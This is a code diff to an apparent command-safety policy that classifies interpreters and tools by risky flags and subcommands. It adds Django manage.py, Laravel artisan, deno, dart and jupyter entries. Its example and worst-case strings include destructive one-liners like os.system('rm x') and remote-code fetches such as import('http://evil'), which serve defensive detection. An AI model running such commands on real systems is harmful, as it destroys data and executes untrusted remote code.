@@ -7,7 +7,10 @@ from execpolicy.programs.record import Program, Wrapper
 # fmt: off
 RECORDS = (
     Program("python python2 python3 pypy pypy3", language="python", options="-b -B -d -E -h -i -I -O -q -s -S -u -v "
-        "-V -x -P -W: -X: -m: -c! --check-hash-based-pycs:", prints="input", broad="-m, -i, -", task="2 -m=3",
+        "-V -x -P -W: -X: -m: -c! --check-hash-based-pycs:", prints="input", broad="-m, -i, -, manage.py",
+        task="2 -m=3 manage.py=3",
+        worst="[] run ./evil; [manage.py] exact test check showmigrations makemigrations; [manage.py] run shell "
+        "-c 'import evil'",
         example="python3 -c 'import os; os.system(\"rm x\")'"),
     Program("ipython ipython3", language="python", options="-c! -i -m:",
         example="ipython -c 'import os; os.system(\"rm x\")'"),
@@ -22,10 +25,15 @@ RECORDS = (
         "--require: --import: --input-type: --loader: --experimental-loader: --conditions: -C: --env-file: --check "
         "--interactive --no-warnings --harmony", prints="input", broad="-r, --require, -i", task="2",
         example="node -e 'require(\"child_process\").execSync(\"rm x\")'"),
-    Program("deno", language="javascript", options="-p --print --ext:", broad="eval, run, repl", task="2 run=0",
+    Program("deno", language="javascript", options="-p --print --ext:", broad="eval, run, repl, task, x, "
+        "install", task="2 run=0 task=3", fetches=True, worst="[task] target deploy; "
+        "[test] run -A; [test] load -c /tmp/evil; [fmt] elsewhere /; [lint] elsewhere /; files test fmt lint "
+        "check; run eval 'import(\"http://evil\")'",
         example="deno eval 'require(\"child_process\").execSync(\"rm x\")'"),
     Program("php", language="php", options="-a -i -l -m -n -q -s -v -w -B! -R! -E! -r! -d: -c: -f: -F: -S: -t: -z: "
-        "--run!", prints="input", broad="-a", task="2", example="php -r 'system(\"rm x\");'"),
+        "--run!", prints="input", broad="-a, artisan, bin/console", task="2 artisan=3 bin/console=3",
+        worst="[] run ./evil; [artisan] exact test about; [artisan] run tinker --execute 'evil()'",
+        example="php -r 'system(\"rm x\");'"),
     Program("lua luajit", language="c", options="-e! -l: -i -v -W", broad="-i, -l",
         example="lua -e 'os.execute(\"rm x\")'"),
     Program("Rscript", language="r", options="-e! --vanilla --verbose", example="Rscript -e 'system(\"rm x\")'"),
@@ -46,15 +54,24 @@ RECORDS = (
     Program("tclsh wish", language="tcl", example="tclsh <<< 'exec rm x'"),
     Program("expect", language="tcl", options="-c! -d -D: -f: -i -n -N -b -v", broad="-*",
         example="expect -c 'spawn rm x'"),
-    Program("ghci iex jshell jjs jrunscript", broad="-e"),
-    Program("java", broad="-jar"),
+    Program("ghci iex jshell jjs jrunscript runghc runhaskell ocaml utop kotlin kotlinc babel-node vite-node nim "
+        "crystal v "
+        "wasmtime wasmer clojure clj artisan manage.py", broad="-e, run", worst="run ./evil"),
+    Program("java javaw", broad="-jar", worst="run -jar ./evil.jar"),
     Program("octave octave-cli", language="c", options="--eval! -q -W -f", example="octave --eval 'system(\"rm x\")'"),
     Program("maxima", language="c", options="--batch-string! -r! --run-string! -b: --very-quiet",
         example="maxima --batch-string='system(\"rm x\")'"),
     Program("exiftool", language="perl", options="-if!", example="exiftool -if 'system(\"rm x\")' a"),
     Program("bpftrace", Wrapper("-e: -p: -d -l -v -o: -B: -f: --unsafe --usdt-file-activation"), language="c",
         options="-e! -c: -p: -d -v -o: -B: -f:", settings="-c!", example="bpftrace -c 'rm x' -e 1"),
-    Program("swift", broad="run", task="2", fetches=True, worst="run -Xswiftc -load-plugin-executable=./evil; "
+    Program("swift", broad="run, repl", task="2", fetches=True, worst="run -Xswiftc -load-plugin-executable=./evil; "
         "elsewhere --package-path /tmp; [run] target x; fetch --repl"),
-    Program("dart", leading="-v --verbose --enable-analytics --disable-analytics --suppress-analytics"),
+    Program("dart", leading="-v --verbose --enable-analytics --disable-analytics --suppress-analytics",
+        broad="run, compile, pub", task="2 pub=3",
+        fetches=True, worst="files test analyze format; [] run run ./evil.dart; load --packages=/tmp/evil; "
+        "elsewhere /tmp"),
+    Program("jupyter", broad="nbconvert, execute, run, lab, notebook, console", task="2",
+        worst="run nbconvert --execute evil.ipynb"),
+    Program("papermill streamlit uvicorn gunicorn celery locust k6 airflow prefect dagster", task="0", broad="",
+        worst="run ./evil"),
 )
